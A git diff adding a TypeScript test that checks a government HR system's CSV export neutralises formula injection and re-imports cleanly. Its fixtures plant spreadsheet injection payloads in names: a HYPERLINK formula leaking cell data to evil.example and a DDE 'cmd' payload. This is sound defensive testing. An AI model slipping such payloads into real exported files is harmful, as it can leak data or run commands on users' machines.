@@ -1,9 +1,10 @@
 import { randomUUID } from 'node:crypto';
+import { parse as parseCsvSync } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
 import type { FastifyInstance } from 'fastify';
 import { describe, expect, it } from 'vitest';
 import { useTestDatabase } from '../../../test/db.ts';
-import { buildAkun, buildInstansi, login } from '../../../test/factories.ts';
+import { buildAkun, buildInstansi, buildJabatan, buildPegawai, buildUnit, login } from '../../../test/factories.ts';
 import type { Database } from '../../db/client.ts';
 import { generateDemo } from '../../db/seed/demo.ts';
 import { buildApp } from '../../http/app.ts';
@@ -585,6 +586,38 @@ describe('export', () => {
       const again = await exportData(database(), { instansiId: demo.instansiId, jenis, format: 'csv' });
       expect(again.body.equals(csv.body)).toBe(true);
     }
+  });
+
+  it('neutralises formulas planted in names in every CSV and re-imports the export unchanged', async () => {
+    const db = database();
+    const inst = await buildInstansi(db);
+    const pemda = await buildUnit(db, inst.id, { nama: '=HYPERLINK("http://evil.example/?d="&A2,"Klik")' });
+    const unit = await buildUnit(db, inst.id, { nama: "=cmd|' /C calc'!A0", parent: pemda });
+    const jab = await buildJabatan(db, inst.id, unit, { nama: '@SUM(1+1)*cmd|x' });
+    const p = await buildPegawai(db, inst.id, { nama: '-2+3+cmd|x', jabatan: jab });
+    // Birth date and sex as the import derives them from the NIP, so only the planted values are in play.
+    await db.pool.query(
+      `update pegawai set telepon = '+6281234567890', gelar_depan = '=1+1',
+              tanggal_lahir = to_date(substr(nip, 1, 8), 'YYYYMMDD'),
+              jenis_kelamin = case substr(nip, 15, 1) when '1' then 'L' else 'P' end
+        where id = $1`,
+      [p.id],
+    );
+    for (const jenis of ['unor', 'jabatan', 'pegawai'] as const) {
+      const csv = await exportData(db, { instansiId: inst.id, jenis, format: 'csv' });
+      const text = csv.body.toString('utf8');
+      const cells = parseCsvSync(text.replace(/^\uFEFF/, '')) as string[][];
+      for (const c of cells.flat()) expect(c, `${jenis}: ${c}`).not.toMatch(/^[=+\-@\t\r]/);
+      const r = await importFile(db, { instansiId: inst.id, actor, fileName: csv.fileName, bytes: csv.body });
+      expect(r.errors, jenis).toEqual([]);
+      expect(r, jenis).toMatchObject({ ok: true, created: 0, updated: 0 });
+    }
+    const pegawaiCsv = (await exportData(db, { instansiId: inst.id, jenis: 'pegawai', format: 'csv' })).body.toString();
+    expect(pegawaiCsv).toContain(`"'-2+3+cmd|x"`);
+    expect(pegawaiCsv).toContain(`"'+6281234567890"`);
+    expect(pegawaiCsv).toContain(`"'=1+1"`);
+    const stored = await db.pool.query('select nama, telepon, gelar_depan from pegawai where id = $1', [p.id]);
+    expect(stored.rows[0]).toEqual({ nama: '-2+3+cmd|x', telepon: '+6281234567890', gelar_depan: '=1+1' });
   });
 
   it('imports an exported instansi into an empty one with the same content', async () => {
